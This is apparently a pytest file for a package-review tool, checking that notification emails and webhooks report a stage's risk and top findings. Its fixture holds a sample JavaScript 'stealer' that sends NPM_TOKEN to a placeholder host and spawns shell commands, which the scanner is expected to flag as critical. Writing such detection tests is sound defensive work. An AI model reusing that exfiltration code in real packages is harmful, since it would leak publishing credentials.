"""The new-stage email and webhook carry the stage's risk and its top new findings, from the
real analysis of built tarballs (no registry: tests/review/support.py's pipeline)."""

from __future__ import annotations

import pytest

from reviews.models import NotificationEvent, WebhookDelivery
from reviews.notify import dispatch as notifications
from reviews.notify.webhooks import payload_for
from tests.notify.conftest import html_of, run_outbox
from tests.personas import World
from tests.review.support import make_stage, reviewed
from tests.support.packages import build_tarball

pytestmark = pytest.mark.django_db

STEALER = (
    "const https = require('https')\n"
    "https.get('https://c.example/?t=' + process.env.NPM_TOKEN)\n"
    "const cp = require('child_process')\n"
    "cp.execSync('a'); cp.execSync('b'); cp.execSync('c'); cp.execSync('d')\n"
)


@pytest.fixture
def risky(people: World):
    stage = make_stage("@acme/leaky", "1.1.0")
    notifications.stage_seen(stage)
    reviewed(
        stage,
        build_tarball("@acme/leaky", "1.1.0", {"index.js": "1\n", "collect.js": STEALER}),
        build_tarball("@acme/leaky", "1.0.0", {"index.js": "1\n"}),
    )
    return stage


def test_the_email_leads_with_the_risk_and_the_top_findings(risky):
    sent = run_outbox()

    message = next(m for m in sent if m.to == ["viewer@example.test"])
    assert message.subject == "[Greenroom] New stage: @acme/leaky@1.1.0 (latest) - risk critical"
    assert "Risk:      critical\n  - critical collect.js:2: Reads NPM_TOKEN" in message.body
    assert message.body.count("\n  - ") >= notifications.TOP_FINDINGS
    assert "more on the review page" in message.body
    html = html_of(message)
    assert "<code>critical collect.js:2: Reads NPM_TOKEN" in html


def test_the_webhook_payload_carries_the_risk_and_top_findings(risky, world: World):
    event = NotificationEvent.objects.get(stage=risky)
    delivery = WebhookDelivery.objects.create(
        key="t", team=world.acme, event=event, summary="new stage"
    )

    payload = payload_for(delivery)

    facts = payload["greenroom"]
    assert facts["risk"] == "critical"
    assert facts["top_findings"][0].startswith("critical collect.js:2: Reads NPM_TOKEN")
    assert len(facts["top_findings"]) == notifications.TOP_FINDINGS
    fields = payload["attachments"][0]["fields"]
    assert (fields[0]["title"], fields[0]["value"]) == ("Risk", "critical")
